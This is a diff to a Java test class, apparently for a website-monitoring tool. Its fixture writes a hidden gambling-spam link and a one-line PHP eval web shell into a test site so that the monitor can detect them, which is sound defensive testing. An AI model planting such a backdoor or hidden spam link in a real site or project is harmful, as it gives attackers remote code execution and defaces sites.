@@ -53,6 +53,10 @@ final class WatchRoom {
 
   final Path site;
   final List<Signal> signals = new ArrayList<>();
+
+  /** What the last look at the files told. */
+  final List<Signal> found;
+
   private final WatchConsole desk;
   private final Cleanups cleanups;
   private final SitePatrol patrol;
@@ -106,7 +110,7 @@ final class WatchRoom {
     pages();
     patrol.look(false);
     change();
-    patrol.look(false);
+    found = patrol.look(false);
     dead(links);
     visits(reachability, clock);
     services(services, LocalDate.ofInstant(clock.instant(), ZONE));
@@ -241,8 +245,10 @@ final class WatchRoom {
   private void change() throws IOException {
     write(
         "berita/index.html",
-        "<h1>Berita</h1>\n<p>6 November 2026</p>\n<div style='display:none'><a href='https://promo.example/'>"
-            + "slot gacor hari ini</a></div>");
+        "<h1>Berita</h1>\n"
+            + "<p>6 November 2026</p>\n"
+            + "<div style='display:none'><a href='https://promo.example/'>slot gacor hari"
+            + " ini</a></div>");
     Files.writeString(site.resolve("shell.php"), "<?php @eval($_POST['x']);");
   }
 
